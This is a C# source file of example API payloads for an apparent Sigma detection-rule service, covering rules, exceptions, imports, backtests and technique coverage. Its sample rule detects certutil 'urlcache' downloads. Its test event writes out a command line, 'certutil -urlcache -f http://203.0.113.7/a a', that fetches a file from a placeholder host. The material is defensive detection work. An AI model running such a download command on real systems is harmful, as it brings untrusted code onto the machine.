using HelmAI.ApiService.Events;

namespace HelmAI.ApiService.Rules;

/// <summary>The examples by which the API's description shows rules.</summary>
internal static class RuleExamples
{
    /// <summary>A rule, as a JSON string of YAML.</summary>
    public const string YamlBody =
        """
        "title: Certutil Downloads\nid: 6b9b1f5e-5f1d-4b4c-9a55-1d2f3a4b5c6d\nlogsource:\n    product: windows\n    category: process_creation\ndetection:\n    selection:\n        Image|endswith: '\\certutil.exe'\n        CommandLine|contains: urlcache\n    condition: selection\nlevel: high\ntags:\n    - attack.t1105\n"
        """;

    /// <summary>An exception, as a JSON string of YAML.</summary>
    public const string ExceptionYaml = "\"title: The packaging host may\\ndetection:\\n    selection:\\n        Computer: build-1\\n    condition: selection\\n\"";

    /// <summary>An exception as JSON.</summary>
    public const string ExceptionJson = """{"title":"The packaging host may","detection":{"selection":{"Computer":"build-1"},"condition":"selection"}}""";

    /// <summary>A rule.</summary>
    public const string Rule =
        """
        {"id":"6b9b1f5e-5f1d-4b4c-9a55-1d2f3a4b5c6d","title":"Certutil Downloads","kind":"rule","origin":"own","enabled":true,"replaces_base":false,"exceptions":0,
        "level":"high","status":"test","product":"windows","category":"process_creation","service":null,"tags":["attack.t1105"],"author":null,"description":null}
        """;

    /// <summary>A page of rules.</summary>
    public const string List = "{\"rules\":[" + Rule + "],\"next_cursor\":null}";

    /// <summary>Stored rules.</summary>
    public const string Saved = "{\"rules\":[" + Rule + "],\"diagnostics\":[" + Diagnostic + "],\"dry_run\":false}";

    /// <summary>Rules that would be stored.</summary>
    public const string DryRun = "{\"rules\":[" + Rule + "],\"diagnostics\":[" + Diagnostic + "],\"dry_run\":true}";

    /// <summary>A rule with its text.</summary>
    public const string Details = "{\"rule\":" + Rule + ",\"yaml\":" + YamlBody + ",\"diagnostics\":[" + Diagnostic + "]}";

    /// <summary>A removed rule.</summary>
    public const string Deleted = """{"id":"6b9b1f5e-5f1d-4b4c-9a55-1d2f3a4b5c6d","deleted":true}""";

    /// <summary>An exception.</summary>
    public const string Exception = "{" + ExceptionIdentity + ",\"yaml\":" + ExceptionYaml + ",\"created_at\":\"2026-01-31T12:00:00+00:00\"}";

    /// <summary>The exceptions to a rule.</summary>
    public const string Exceptions = "{\"exceptions\":[" + Exception + "]}";

    /// <summary>A withdrawn exception.</summary>
    public const string ExceptionDeleted = """{"id":"019c1a2b-3c4d-7e5f-8a9b-0c1d2e3f4a5b","deleted":true}""";

    /// <summary>What an import came to.</summary>
    public const string Import = "{\"files\":3141,\"loaded\":3140,\"replaced\":0,\"unchanged\":0,\"rejected\":1,\"ignored\":0,\"dry_run\":false,\"rejections\":[" + FileDiagnostic + "]}";

    /// <summary>A request to try rules.</summary>
    public const string TestRequest = "{\"rules\":" + YamlBody + ",\"events\":[{\"Channel\":\"Security\",\"EventID\":4688,\"NewProcessName\":\"C:\\\\Windows\\\\System32\\\\certutil.exe\",\"CommandLine\":\"certutil -urlcache -f http://203.0.113.7/a a\"}]}";

    /// <summary>What was found.</summary>
    public const string TestResponse = "{\"diagnostics\":[],\"results\":[{\"index\":0,\"risk_score\":0.95,\"findings\":[" + EventExamples.Finding + "],\"error\":null}]}";

    /// <summary>A request for a backtest.</summary>
    public const string BacktestRequest = """{"from":"2026-01-24T00:00:00Z","to":"2026-01-31T00:00:00Z","max_events":100000}""";

    /// <summary>A backtest.</summary>
    public const string Backtest =
        """
        {"id":"019c1a2b-3c4d-7e5f-8a9b-0c1d2e3f4a5b","rule_id":"6b9b1f5e-5f1d-4b4c-9a55-1d2f3a4b5c6d","state":"completed","progress":1,
        "from":"2026-01-24T00:00:00+00:00","to":"2026-01-31T00:00:00+00:00","events_total":42000,"events_scanned":42000,"findings":21,"alerts":14,"estimated_alerts_per_day":2,
        "samples":[{"event_id":"019c1a2b-3c4d-7e5f-8a9b-0c1d2e3f4a5b","timestamp":"2026-01-25T08:00:00+00:00","finding":
        """ + EventExamples.Finding + """}],"error":null,"created_at":"2026-01-31T12:00:00+00:00"}""";

    /// <summary>What the rules look for.</summary>
    public const string Coverage =
        """
        {"rules":3141,"mapped":2900,"tactics":[{"name":"command-and-control","rules":1,"techniques":[{"id":"T1105","rules":1}]}],"techniques":[{"id":"T1105","rules":1}]}
        """;

    private const string Diagnostic = """{"code":"SIGMA410","severity":"warning","line":1,"message":"there is no description","remedy":"Describe what the rule finds"}""";

    private const string FileDiagnostic = """{"code":"SIGMA101","severity":"error","file":"rules/broken.yml","line":12,"message":"')' is missing","remedy":"Use search identifiers with and, or, not, parentheses and 'x of'"}""";

    private const string ExceptionIdentity = "\"id\":\"019c1a2b-3c4d-7e5f-8a9b-0c1d2e3f4a5b\",\"rule_id\":\"6b9b1f5e-5f1d-4b4c-9a55-1d2f3a4b5c6d\",\"title\":\"The packaging host may\"";
}
